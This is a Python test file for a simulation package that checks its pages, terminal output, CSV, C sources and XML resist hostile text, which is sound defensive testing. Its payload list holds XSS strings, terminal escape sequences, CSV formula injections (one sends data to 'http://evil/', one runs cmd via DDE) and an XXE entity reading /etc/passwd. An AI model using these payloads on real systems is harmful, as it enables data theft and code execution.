"""Text that attacks what shows it, in every string of every file: pages, terminals, CSV, C, XML."""

import csv
import io
import json
import re
import shutil
from contextlib import suppress
from hashlib import sha256
from html.parser import HTMLParser
from importlib.resources import files
from types import SimpleNamespace
from xml.etree import ElementTree as ET

import h5py
import numpy as np
import pytest
from typer.testing import CliRunner

import tractive_sam as ts
from tests.browser import needs_browser
from tests.pages.test_browser import DRAWN
from tests.studies.conftest import small
from tests.tables.test_written import of_any
from tractive_sam import pages
from tractive_sam.cli import app
from tractive_sam.lookup import c_sources, columns_of
from tractive_sam.plot.figure import Figure
from tractive_sam.schema import SceneError
from tractive_sam.store import GapError, ResultsError, layout, open_history, read_gap
from tractive_sam.store.layout import create_text, set_text
from tractive_sam.store.opening import SEAL, decode_text
from tractive_sam.studies import open_study, study
from tractive_sam.studies.results import Folder
from tractive_sam.tables.fmu import Description2
from tractive_sam.tables.table_file import write_table

RUN = "window.PWNED=1;document.title='PWNED'"
HOSTILE = (
    f"</script><script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f'"><svg onload="{RUN}">\'',
    f"</pre></title></style><script>{RUN}</script><!--",
    f"&lt;img src=x onerror=&quot;{RUN}&quot;&gt;",
    f'<a href="javascript:{RUN}">%{{x}}</a>',
    "\x1b]0;owned\x07\x1b[31mred\x1b[2J \x9b31m",
    "\u202egnp.exe\u2066 \u2028 \x00\r",
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "*/ #include </etc/passwd> /*",
    "]]><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y; @NAME@ ${title} $title",
)
HARMLESS = "plain words"
BLOCKS = ({"name": HARMLESS, "revolutions": 2}, {"name": "other", "revolutions": 2})
KEPT_JSON = (layout.USER, "versions")


# ---- what is shown ------------------------------------------------------------------------------
class Elements(HTMLParser):
    """Names of elements and attributes of a page, and the content of its scripts."""

    def __init__(self, page):
        super().__init__()
        self.found, self.scripts, self._inside = set(), [], False
        self.feed(page)

    def handle_starttag(self, tag, attributes):
        self.found.add((tag, *sorted(name for name, _ in attributes)))
        self._inside = tag == "script"
        self.scripts += [""] if self._inside else []

    def handle_endtag(self, tag):
        self._inside = False

    def handle_data(self, data):
        if self._inside:
            self.scripts[-1] += data


def check_terminal(text):
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text), text


def check_csv(text):
    check_terminal(text)
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            with suppress(ValueError):
                float(cell)
                continue
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def check_page(page, harmless):
    found, before = Elements(page), Elements(harmless)
    assert found.found <= before.found
    drawing, data, *own = found.scripts
    assert (drawing, *own) == (before.scripts[0], *before.scripts[2:])
    json.loads(data)
    check_terminal(page)


def called(*arguments):
    """Return the output of a command, which must end without a signal."""
    result = CliRunner().invoke(app, [str(one) for one in arguments])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.output
    check_terminal(result.output)
    return result.stdout


# ---- strings of files ---------------------------------------------------------------------------
def leaves(value, at=()):
    """Places of all strings in nested lists and mappings of JSON or TOML."""
    if isinstance(value, str):
        yield at
    if isinstance(value, dict | list):
        for key, one in value.items() if isinstance(value, dict) else enumerate(value):
            yield from leaves(one, (*at, key))


def with_leaf(value, at, text):
    """Return the tables with another text at a place."""
    if not at:
        return text
    copy = dict(value) if isinstance(value, dict) else list(value)
    copy[at[0]] = with_leaf(value[at[0]], at[1:], text)
    return copy


def texts_of(path):
    """Places of all strings of an HDF5 file: (object, attribute or None, place in its JSON)."""
    places = []

    def look(name, item):
        for key, value in item.attrs.items():
            if isinstance(value, str | bytes):
                inner = leaves(json.loads(decode_text(value))) if key in KEPT_JSON else [()]
                places.extend((name, key, at) for at in inner)
        if isinstance(item, h5py.Dataset) and item.dtype.kind in "OS" and item.size:
            places.append((name, None, ()))

    with h5py.File(path) as file:
        look("/", file)
        file.visititems(look)
    return places


def put(path, places, text):
    """Set strings of an HDF5 file; of a scene its title and names of blocks."""
    with h5py.File(path, "r+") as file:
        for name, key, at in places:
            item = file[name]
            if key is not None:
                whole = decode_text(item.attrs[key])
                set_text(item, key, json.dumps(with_leaf(json.loads(whole), at, text))
                         if key in KEPT_JSON else text.replace("\0", ""))  # fmt: skip
            elif item.shape == () and name == "scene":
                about = dict(item.attrs)
                scene = ts.Scene.from_toml_text(decode_text(item[()]))
                blocks = [one.entries() for one in scene.duty]
                named = ({**blocks[0], "name": text}, *blocks[1:])
                toml = scene.replace(title=text, duty=named).to_toml()
                del file[name]
                create_text(file, name, toml).attrs.update(about)
                set_text(file[name], "digest", layout.digest(toml))
            else:
                item[...] = np.full(item.shape, text.replace("\0", "").encode())


@pytest.fixture(scope="module")
def results(tmp_path_factory):
    """A results file of a duty cycle with a column that is not the package's."""
    path = tmp_path_factory.mktemp("results") / "results.h5"
    scene = ts.Scene.builtin("twin-discs").replace(
        title=HARMLESS, subsurface=None, duty=BLOCKS, **{"wear.revolutions": 16, "wear.save": (16,)}
    )
    few = {"grid.half_length": (0.35, 0.7), "grid.elements": (15, 21)}
    share = ts.Quantity("share", "N", "share", lambda contact: contact.Qx + contact.wear.max())
    ts.roll(scene.replace(**few), path, columns=[share], progress=False)
    return path


@pytest.fixture
def without_plotly(monkeypatch):
    monkeypatch.setattr("plotly.offline.get_plotlyjs", lambda: "0;")


def kind_of_place(place):
    """What places in the entries of different columns have in common."""
    _, attribute, at = place
    return str(attribute), *[key for key in at if isinstance(key, str)][-1:]


@pytest.fixture(scope="module")
def places(results, tmp_path_factory):
    """Places of a results file that take any text, and one of each kind that refuses it.

    Places of a kind are alike: one of them is tried.
    """
    path, kinds = tmp_path_factory.mktemp("places") / "r.h5", {}
    for place in texts_of(results):
        kinds.setdefault(kind_of_place(place), []).append(place)
    accepted, refused = [], []
    for alike in kinds.values():
        path.write_bytes(results.read_bytes())
        try:
            put(path, alike[:1], HOSTILE[0])
            open_history(path)
        except (SceneError, ResultsError):
            refused += alike[:1]
        else:
            accepted += alike
    return SimpleNamespace(accepted=accepted, refused=refused)


def open_hostile(results, path, places, text):
    """Open a copy of a results file with a text in all places; names of columns may refuse it."""
    path.write_bytes(results.read_bytes())
    put(path, places, text)
    try:
        return open_history(path)
    except ResultsError:  # of control characters in names of columns
        check_terminal(called("show", path))
        path.write_bytes(results.read_bytes())
        put(path, [one for one in places if one[1] != layout.USER], text)
        return open_history(path)


@pytest.mark.slow  # every string of a results file
@pytest.mark.usefixtures("empty_pictures")
def test_results(results, places, tmp_path, without_plotly, record_property):
    path, page = tmp_path / "r.h5", tmp_path / "r.html"
    harmless = pages.report(open_history(results), page).read_text("utf-8")
    found = places.accepted
    assert len(found) > 100
    assert {("scene", None, ()), ("scene", "message", ()), ("scene", "status", ())} <= set(found)
    assert ("/history", layout.USER, (0, "unit")) in {(f"/{n}", k, at) for n, k, at in found}
    record_property("shown", len(found) * len(HOSTILE))
    commands = ((), check_terminal), (("--json",), json.loads), (("--csv",), check_csv)
    for number, text in enumerate(HOSTILE):
        history = open_hostile(results, path, found, text)
        check_page(pages.report(history, page).read_text("utf-8"), harmless)
        assert Elements(history._repr_html_()).found <= {
            ("table",), ("tr",), ("th", "style"), ("td", "style"), ("div", "style"), ("div",),
            ("img", "alt", "src", "width"),
        }  # fmt: skip
        check_terminal(repr(history))
        options, check = commands[number % len(commands)]
        check(called("show", path, *options))
    for number, place in enumerate(places.refused):
        path.write_bytes(results.read_bytes())
        with suppress(SceneError):
            put(path, [place], HOSTILE[number % len(HOSTILE)])
            called("show", path)


@pytest.mark.slow
@pytest.mark.parametrize("text", HOSTILE)
def test_scenes_and_studies(tmp_path, text):
    """Every string of a scene and of a study: refused with a message, or taken as text."""
    scene = ts.Scene.builtin("twin-discs").entries()
    scene |= {"title": "a", "duty": [dict(one) for one in BLOCKS]}
    requested = small(title="a").entries()
    for given, make in ((scene, ts.Scene), (requested, ts.Study)):
        tables = json.loads(json.dumps(given, default=str))
        for at in leaves(tables):
            changed = with_leaf(tables, at, text)
            try:
                made = make(**changed)
            except (SceneError, TypeError, ValueError):
                continue
            (tmp_path / "a.toml").write_text(made.to_toml(), "utf-8")
            called("explain", tmp_path / "a.toml")
            check_terminal(repr(made))


@pytest.fixture(scope="module")
def computed(tmp_path_factory):
    folder = tmp_path_factory.mktemp("study") / "a"
    mu = {"key": "friction.mu", "values": [0.2, 0.4]}
    study(small(mu, title="a", keep="scalars"), folder, workers=0)
    return folder


@pytest.mark.slow
@pytest.mark.parametrize("text", HOSTILE)
def test_folders_of_studies(computed, tmp_path, text):
    """The title of a study, what is stored of its cases, and why one failed."""
    folder = shutil.copytree(computed, tmp_path / "b")
    toml = folder / "study.toml"
    entries = ts.Study.from_toml(toml).entries() | {"title": text}
    toml.write_text(ts.schema.toml.emit(entries), "utf-8")
    log = Folder(folder).log
    first, second = log.read().entries.values()
    log.append(dict(first) | {"message": text, "version": text})
    whole = log.path.read_text("utf-8")
    log.path.write_text(f"{whole}\n{text}", "utf-8")
    (folder / f"{second['digest']}.txt").write_text(f"{text}\n\n{text}", "utf-8")
    called("study-show", folder, "--csv", tmp_path / "a.csv")
    found = (tmp_path / "a.csv").read_text("utf-8")
    check_csv(found)
    assert "complete" in found
    called("study-show", folder)
    html = Elements(open_study(folder)._repr_html_())
    assert {one[0] for one in html.found} <= {"table", "tr", "th", "td", "div", "img"}


@pytest.fixture(scope="module")
def original(tmp_path_factory):
    """A table in its file, and what a compiler and a reader of XML see of it."""
    path = tmp_path_factory.mktemp("table") / "table.nc"
    write_table(of_any(), path)
    table = ts.open_table(path)
    return SimpleNamespace(path=path, code=code_of(table), shapes=shapes_of(table))


def code_of(table):
    """What a compiler sees of the sources of a table."""
    sources = "".join(c_sources(table).values())
    assert sources.isascii()
    return re.sub(r"/\*.*?\*/", "", sources, flags=re.DOTALL)


def shapes_of(table):
    """Elements of the description of a model, with the names of their attributes."""
    description = ET.fromstring(Description2(table, "a", "b").files["modelDescription.xml"])
    return [(one.tag, *one.keys()) for one in description]


def put_attributes(path, names, text):
    """Change attributes of a table, with the hash at its end as a hostile writer would."""
    path.write_bytes(path.read_bytes().partition(SEAL)[0])
    with h5py.File(path, "r+") as file:
        for name in names:
            file.attrs[name] = text.replace("\0", "")
    content = path.read_bytes()
    path.write_bytes(content + SEAL + sha256(content).hexdigest().encode())


@pytest.mark.slow
@pytest.mark.parametrize("text", HOSTILE)
def test_tables(original, tmp_path, text):
    """Each attribute of a table: refused with a message, or taken as text; all of these at once."""
    path, accepted = tmp_path / "table.nc", []
    content = original.path.read_bytes()
    for name in ("title", "design", "version", "scaling", "format", "axes", "apart"):
        path.write_bytes(content)
        put_attributes(path, [name], text)
        try:
            ts.open_table(path)
            accepted.append(name)
        except ResultsError:
            called("show", path)
    assert "title" in accepted
    path.write_bytes(content)
    put_attributes(path, accepted, text)
    table = ts.open_table(path)
    assert code_of(table) == original.code
    assert shapes_of(table) == original.shapes
    check_terminal(columns_of(table)[:2000])
    called("show", path)
    called("show", path, "--json")


@pytest.mark.filterwarnings("ignore::tractive_sam.SceneWarning")  # headings that are not used
@pytest.mark.parametrize("text", HOSTILE)
def test_columns_of_text(tmp_path, text):
    """Cells of gaps and load histories: what is wrong is named without commanding a terminal."""
    for rows in (f"{text},y,separation\n0,0,0\n", f"x,y,separation\n0,{text},0\n", text):
        path = tmp_path / "a.csv"
        path.write_text(rows, "utf-8", newline="")
        with pytest.raises(GapError):
            read_gap(path)
        entries = ts.Scene.builtin("twin-discs").entries()
        for key, extra in (("gap", {}), ("load_history", {"levels": 2})):
            toml = tmp_path / "a.toml"
            toml.write_text(
                ts.schema.toml.emit(entries | {key: {"file": str(path)} | extra}), "utf-8"
            )
            called("run", toml, "-o", tmp_path / "never.h5")


@pytest.mark.slow
def test_figures_of_results_are_plotted(results, places, tmp_path):
    """Warnings are errors here: fonts lack control characters, and formulas begin with a dollar."""
    for text in (HOSTILE[6], HOSTILE[-1]):
        history = open_hostile(results, tmp_path / "r.h5", places.accepted, text)
        assert "<img" in history._repr_html_()


def test_labels_of_figures(tmp_path):
    """Warnings are errors here: fonts lack control characters, and say so of each."""
    figure = Figure()
    axes = figure.subplots()
    axes.plot([1, 2], label=HOSTILE[6].replace("\n", ""))
    axes.legend()
    figure.savefig(tmp_path / "a.png")
    check_terminal(axes.get_legend().get_texts()[0].get_text())


def test_script_of_the_page_parses_no_text_as_html():
    script = (files("tractive_sam.pages") / "report.js").read_text("utf-8")
    assert not re.search(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|eval\(", script)


@pytest.mark.slow
@needs_browser
def test_in_a_browser(results, places, browser, tmp_path):
    """A page with only hostile texts runs nothing, requires nothing, and is drawn."""
    path = tmp_path / "r.h5"
    path.write_bytes(results.read_bytes())
    # Each of the texts that would run something, in places of every kind.
    shown = [one for one in places.accepted if one[0].strip("/") in ("", "scene", "history")]
    for number, place in enumerate(sorted(shown, key=kind_of_place)):
        put(path, [place], HOSTILE[number % 6])
    page = ts.report(open_history(path), tmp_path / "page.html")
    browser.open(page.as_uri(), 1440, height=12000)
    figures = browser.run(DRAWN)
    run = browser.run("[typeof window.PWNED, document.title == 'PWNED']")
    requested = [one for one in browser.requests if not one.startswith(("file:", "data:", "blob:"))]
    assert (browser.errors, requested, figures["undrawn"]) == ([], [], [])
    assert run == ["undefined", False]
    assert figures["charts"] > 5
